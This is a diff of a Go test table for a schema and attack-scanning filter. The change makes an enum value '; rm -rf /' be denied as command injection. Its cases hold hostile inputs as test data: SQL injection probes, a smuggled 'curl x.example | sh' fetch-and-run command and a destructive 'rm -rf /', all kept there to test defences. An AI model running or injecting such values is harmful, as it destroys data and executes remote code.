@@ -34,7 +34,7 @@ func TestEvaluateSchema(t *testing.T) {
 		{"a probe in a number field", map[string]any{"price": "19.99 AND SLEEP(5)"}, "deny", "schema/type_mismatch", "not number"},
 		{"a boolean", map[string]any{"paid": "true"}, "none", "", ""},
 		{"a command in a boolean field", map[string]any{"paid": "true; curl x.example | sh"}, "deny", "", "not boolean"},
-		{"an enum member that looks like an attack", map[string]any{"status": "; rm -rf /"}, "none", "", ""},
+		{"an enum member that looks like an attack is still scanned", map[string]any{"status": "; rm -rf /"}, "deny", "command_injection", ""},
 		{"a value outside the enum", map[string]any{"status": "open' --"}, "deny", "schema/type_mismatch", "not one of [open closed ; rm -rf /]"},
 		{"a uuid", map[string]any{"ref": "123e4567-e89b-12d3-a456-426614174000"}, "none", "", ""},
 		{"a malformed uuid", map[string]any{"ref": "123e4567' OR '1'='1"}, "deny", "schema/type_mismatch", "not a uuid"},
